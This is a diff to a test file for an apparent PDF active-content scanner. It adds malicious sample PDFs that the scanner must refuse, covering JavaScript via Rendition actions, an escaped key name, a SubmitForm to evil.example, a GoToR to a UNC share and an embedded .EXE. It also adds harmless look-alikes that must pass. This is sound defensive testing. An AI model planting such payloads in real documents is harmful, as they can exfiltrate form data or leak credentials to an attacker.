@@ -53,6 +53,12 @@ SCRIPT = b"2 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n"
         pdf(packed(SCRIPT)),
         pdf(packed(SCRIPT, b"/Filter [ /FlateDecode ]")),
         pdf(packed(SCRIPT, b"/F#69lter/Flate#44ecode")),
+        pdf(b"2 0 obj << /OpenAction << /S /Rendition /JS (app.alert\\(1\\)) >> >> endobj\n"),
+        pdf(packed(b"<< /S /Rendition /J#53 3 0 R >>")),
+        pdf(b"3 0 obj << /Length 99 >>\nstream\n2 0 obj << /S /Rendition /JS (x) >>\nendstream\nendobj\n"),
+        pdf(b"2 0 obj << /OpenAction << /S /SubmitForm /F (http://evil.example) >> >> endobj\n"),
+        pdf(b"2 0 obj << /OpenAction << /S /GoToR /F (\\\\evil\\share) >> >> endobj\n"),
+        pdf(b"2 0 obj << /EmbeddedFiles 3 0 R >> endobj\n3 0 obj << /Type /Filespec /F (a.EXE) >> endobj\n"),
         # A reader finds it by the table of places, though it lies in a stream.
         pdf(b"3 0 obj << /Length 99 >>\nstream\n" + SCRIPT + b"\nendstream\nendobj\n"),
     ],
@@ -84,6 +90,9 @@ def test_what_unpacks_without_end_is_refused_within_its_budget() -> None:
     [
         pdf(packed(b"<< /Type /Page >>"), b"4 0 obj << /S /URI /URI (https://a.example) >> endobj\n"),
         pdf(b"2 0 obj (JavaScript and Launch are words) endobj\n"),
+        # A picture in which the short word stands by chance.
+        pdf(b"3 0 obj << /Length 40 >>\nstream\n\x00\x01\xff/JS(\x80\x81\x82/GoToR \xfe\nendstream\nendobj\n"),
+        pdf(b"2 0 obj << /EmbeddedFiles 3 0 R >> endobj\n3 0 obj << /Type /Filespec /F (a.xml) >> endobj\n"),
         pdf(packed(b"<< /Type /Page >>", b"")),
     ],
 )
